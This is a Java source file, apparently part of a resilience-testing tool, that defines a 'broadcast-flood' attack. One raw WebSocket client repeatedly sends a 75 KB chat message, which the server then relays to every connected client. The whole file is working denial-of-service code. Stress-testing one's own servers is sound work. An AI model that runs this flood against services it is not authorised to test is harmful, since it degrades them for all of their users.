package dev.carillon.attacks.kinds;

import dev.carillon.attacks.raw.Frames;
import dev.carillon.attacks.raw.RawWebSocket;
import java.io.IOException;

/** Each byte of the attacker becomes a byte to each client. */
final class BroadcastFlood implements Attack {
    private static final byte[] BROADCAST = Frames.text("42[\"sendMsg\",\"" + "b".repeat(75_000) + "\"]");

    @Override
    public String name() {
        return "broadcast-flood";
    }

    @Override
    public String summary() {
        return "one client sends 75 KB to all clients, as fast as it can";
    }

    @Override
    public void start(Attacker attacker) {
        attacker.repeat(1, () -> session(attacker));
    }

    private static void session(Attacker attacker) throws IOException {
        try (RawWebSocket client = attacker.webSocket()) {
            client.connect();
            client.drainInBackground();
            while (!attacker.isStopped()) {
                client.send(BROADCAST);
                attacker.count();
            }
        }
    }
}
